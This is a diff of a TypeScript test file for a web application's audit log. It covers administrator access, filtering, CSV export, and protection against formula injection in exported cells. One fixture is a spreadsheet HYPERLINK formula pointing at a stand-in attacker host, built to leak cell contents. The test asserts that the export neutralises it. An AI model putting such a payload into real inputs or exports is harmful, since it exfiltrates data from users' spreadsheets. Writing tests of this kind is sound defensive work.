@@ -2,7 +2,7 @@ import { test } from 'node:test';
 import assert from 'node:assert/strict';
 import { sql } from 'drizzle-orm';
 import { parse } from 'csv-parse/sync';
-import { Browser, buildTestHub, signedIn, withPartnership } from '../../../test/helpers.ts';
+import { buildTestHub, signedIn, withPartnership } from '../../../test/helpers.ts';
 import { auditLog } from './audit.tables.ts';
 import { recordAudit } from './audit.service.ts';
 
@@ -21,27 +21,34 @@ test('administrators read, filter and export the audit log; others cannot', asyn
   const hub = await buildTestHub(t);
   await withPartnership(hub);
   const { browser: admin } = await signedIn(hub, 'administrator');
-  const stranger = new Browser(hub.app);
-  await stranger.get('/sign-in');
-  await stranger.post('/sign-in', { email: 'nobody@example.org', password: 'a wrong guess' });
+  const db = hub.database.db;
+  await recordAudit(db, {
+    action: 'document.viewed',
+    actor: 'nobody@example.org',
+    subjectType: 'document',
+    subjectId: 1,
+  });
+  await recordAudit(db, { action: 'document.downloaded', actor: 'somebody@example.org', subjectType: 'document' });
 
   const page = await admin.get('/audit-log');
   assert.equal(page.statusCode, 200);
   assert.equal(page.headers['cache-control'], 'no-store');
-  assert.match(page.body, /sign_in.failed/);
-  assert.match(page.body, /sign_in.succeeded/);
+  assert.match(page.body, /document.viewed/);
+  assert.match(page.body, /document.downloaded/);
+  // Sign-in attempts have their own table, kept for their retention period, not this log.
+  assert.doesNotMatch(page.body, /sign_in\./);
 
-  const filtered = await admin.get('/audit-log?action=sign_in.failed');
+  const filtered = await admin.get('/audit-log?action=document.viewed');
   assert.match(filtered.body, /nobody@example.org/);
-  assert.doesNotMatch(filtered.body, /sign_in.succeeded/);
+  assert.doesNotMatch(filtered.body, /document.downloaded/);
   assert.equal((await admin.get('/audit-log?from=not-a-date')).statusCode, 400);
 
-  const csv = await admin.get('/audit-log.csv?action=sign_in');
+  const csv = await admin.get('/audit-log.csv?action=document');
   assert.equal(csv.statusCode, 200);
   assert.match(String(csv.headers['content-type']), /text\/csv/);
   const records = parse<Record<string, string>>(csv.body, { columns: true });
   assert.ok(records.length >= 2);
-  assert.ok(records.every((r) => r.action!.startsWith('sign_in')));
+  assert.ok(records.every((r) => r.action!.startsWith('document')));
   assert.ok(records.some((r) => r.actor === 'nobody@example.org'));
 
   const exported = await admin.get('/audit-log?action=audit_log');
@@ -54,25 +61,19 @@ test('administrators read, filter and export the audit log; others cannot', asyn
   }
 });
 
-test('a sign-in with a formula for an email reaches the audit CSV as text, not a formula', async (t) => {
+test('an entry with a formula for its actor reaches the audit CSV as text, not a formula', async (t) => {
   const hub = await buildTestHub(t);
   await withPartnership(hub);
   const { browser: admin } = await signedIn(hub, 'administrator');
-  const stranger = new Browser(hub.app);
-  await stranger.get('/sign-in');
   const email = '=HYPERLINK("http://evil.example/?x="&A1,"Click to continue")';
-  await stranger.post('/sign-in', { email, password: 'a wrong guess' });
+  await recordAudit(hub.database.db, { action: 'account.password_link_refused', actor: email });
 
   const csv = await admin.get('/audit-log.csv');
   assert.equal(csv.statusCode, 200);
   const records = parse<Record<string, string>>(csv.body, { columns: true });
-  const failed = records.find((r) => r.action === 'sign_in.failed');
-  assert.ok(failed, 'the failed sign-in is in the export');
-  assert.equal(
-    failed.actor,
-    `'${email.toLowerCase()}`,
-    'the cell starts with an apostrophe, so a spreadsheet shows it as text',
-  );
+  const failed = records.find((r) => r.action === 'account.password_link_refused');
+  assert.ok(failed, 'the entry is in the export');
+  assert.equal(failed.actor, `'${email}`, 'the cell starts with an apostrophe, so a spreadsheet shows it as text');
   for (const record of records) {
     for (const [column, cell] of Object.entries(record))
       assert.doesNotMatch(cell, /^[=+\-@\t\r]/, `${column} of ${record.action}`);
